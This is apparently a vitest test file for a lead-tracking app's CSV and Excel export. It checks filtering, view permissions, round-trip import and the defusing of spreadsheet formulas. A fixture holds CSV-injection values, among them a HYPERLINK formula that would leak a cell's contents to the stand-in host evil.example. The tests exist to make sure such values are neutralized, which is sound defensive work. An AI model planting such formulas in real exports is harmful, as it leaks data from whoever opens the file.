import { sheetParts, sheetPath } from 'domain/imports';
import { blankLead, fieldsOfStatus, type Lead, leadFields } from 'domain/leads';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertLeads } from '#leads';
import { people } from '#platform/testing/cast.ts';
import { type Client, startTestServer, type TestServer } from '#platform/testing/server.ts';

let server: TestServer;
let other: TestServer;
let ada: Client;
const lead = (fields: Partial<Lead>): Lead => ({
  ...blankLead(server.services.newId(), '2026-03-01T10:00:00.000Z'),
  email: `${Math.random().toString(36).slice(2)}@example.com`,
  ...fields,
});

const odd = {
  firstName: '=HYPERLINK("http://evil.example?"&A2,"x")',
  lastName: '+1',
  company: '-2',
  businessName: '@x',
  city: "'quoted",
  typeOfMachines: 'a"b, c\r\nd',
  country: '\tTab',
  leadDescription: 'Très\n"intéressé" ✓',
  phone: '+1 206 555 6995',
  state: 'CA',
  tags: ['=vip', 'a;b'],
  priority: 'high' as const,
  value: 1200,
  nextStep: { what: '@call', dueAt: '2027-01-02T03:04:05.006Z' },
  leaseExpirationDate: '2031-02-03',
  hasCurrentProvider: true,
  leaseNoticeDays: 90,
  numberOfUnits: 12,
  leaseAutoRenews: 'yes' as const,
  buildingStyle: 'mid-rise' as const,
  customFields: { a: 'b', n: 3, yes: true },
};

beforeAll(async () => {
  server = await startTestServer({ jobs: true });
  other = await startTestServer({ jobs: true });
  ada = await server.signIn(people.ada);
  await insertLeads(server.db, [
    lead({ firstName: 'Plain', assignedRep: people.mia.uid, assignedAt: '2026-03-02T00:00:00.000Z' }),
    lead({ ...odd, ...fieldsOfStatus('lost'), email: 'odd@example.com' }),
    ...Array.from({ length: 1200 }, (_, at) =>
      lead({ firstName: `Lead ${at}`, city: at < 700 ? 'Napa' : 'Reno' }),
    ),
  ]);
});
afterAll(async () => {
  await server.close();
  await other.close();
});

// Brings a file in, as somebody does who checks and runs it.
const importFile = async (client: Client, text: string, choices: object = {}) => {
  const { body } = await client.raw('/api/imports.upload?noun=leads&name=test.csv', {
    method: 'POST',
    body: text,
  });
  const { body: check } = await client.call('imports.check', { id: body.id, ...choices });
  await client.call('imports.run', { id: body.id, checks: check.checks });
  const now = async () => (await client.call('imports.get', { id: body.id })).body;
  await expect.poll(async () => (await now()).state).toBe('done');
  return now();
};

const lines = (text: string) => text.trim().split('\r\n').length - 1;
const get = (query = 'view=all') => ada.raw(`/api/export/leads.csv?${query}`);

describe('the export', () => {
  it('holds every lead, formulas defused (hostile CSV-01)', async () => {
    await ada.call('view.set', { mode: 'all' });
    const { status, headers, text } = await get();
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/);
    expect(text.match(/@example\.com/g)).toHaveLength(1202);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example?""&A2,""x"")"`);
    expect(text).not.toMatch(/(^|,)"?[=+@\t]/m);
    expect(text).toContain('Mia');
  });

  it('[D69] comes as an Excel file too: the same rows, numbers, money and days as such, and no formula', async () => {
    const answer = await fetch(`${server.url}/api/export/leads.xlsx?view=all`, {
      headers: { cookie: `washboard_session=${ada.token}` },
    });
    expect(answer.headers.get('content-disposition')).toMatch(/filename="leads-[\d-]+\.xlsx"$/);
    const parts = unzipSync(new Uint8Array(await answer.arrayBuffer()));
    expect(Object.keys(parts).sort()).toEqual([...Object.keys(sheetParts), sheetPath].sort());
    const sheet = strFromU8(parts[sheetPath] ?? new Uint8Array());
    expect(sheet.match(/<row>/g)).toHaveLength(1203);
    const [row = ''] = sheet.split('<row>').filter((one) => one.includes('odd@example.com'));
    const text = (said: string) => `<is><t xml:space="preserve">${said}</t></is>`;
    expect(row).toContain(text('=HYPERLINK("http://evil.example?"&amp;A2,"x")'));
    expect(row).toContain(text('+1 206 555 6995'));
    expect(row).toContain('<c><v>12</v></c>');
    expect(row).toContain('<c s="4"><v>1200</v></c>');
    // 2031-02-03, and a moment by the office's clock: 2027-01-01 19:04.
    expect(row).toContain('<c s="2"><v>47882</v></c>');
    expect(row).toMatch(/<c s="3"><v>46388\.794/);
    expect(sheet).not.toMatch(/<f[ >]/);
    expect((await (await server.signIn(people.max)).raw('/api/export/leads.xlsx')).status).toBe(403);
  });

  it('of invoices says in its name which books it is for', async () => {
    const nameOf = async (query: string) =>
      (await ada.raw(`/api/export/invoices.csv${query}`)).headers.get('content-disposition');
    expect(await nameOf('')).toMatch(/filename="invoices-[\d-]+\.csv"$/);
    expect(await nameOf('?shape=quickbooks')).toMatch(/filename="invoices-quickbooks-[\d-]+\.csv"$/);
  });

  it('keeps to the filter, the text and the view', async () => {
    const filter = encodeURIComponent(JSON.stringify({ city: 'Napa' }));
    expect(lines((await get(`filter=${filter}`)).text)).toBe(700);
    expect(lines((await get('text=Lead%20119')).text)).toBe(11);
    await ada.call('view.set', { mode: 'self' });
    expect((await get('')).text).not.toContain('Plain');
    expect((await get('view=all')).text).not.toContain('Plain');
    await ada.call('view.set', { mode: 'all' });
    expect((await get('')).text).toContain('Plain');
  });

  it.each(['filter=nonsense', 'filter={"foo":1}', 'view=every', 'foo=1'])('refuses %s', async (query) => {
    expect((await get(query)).status).toBe(400);
  });

  it('imports back to the same writable fields in another installation', async () => {
    const { text } = await get();
    const result = await importFile(await other.signIn(people.ada), text);
    expect(result).toMatchObject({ created: 1202, updated: 0, duplicate: 0, refused: 0 });
    const read = (from: TestServer) =>
      from.db.selectFrom('leads').selectAll().orderBy('email').execute() as unknown as Promise<Lead[]>;
    const written = ({ createdAt, status, ...row }: Lead) => [
      createdAt,
      status,
      ...Object.keys(leadFields.shape).map((field) => row[field as keyof typeof row]),
    ];
    expect((await read(other)).map(written)).toEqual((await read(server)).map(written));
  });

  it('changes nothing when it is imported where it came from', async () => {
    const { text } = await get();
    expect(await importFile(ada, text)).toMatchObject({
      created: 0,
      updated: 0,
      duplicate: 1202,
      refused: 0,
    });
  });
});
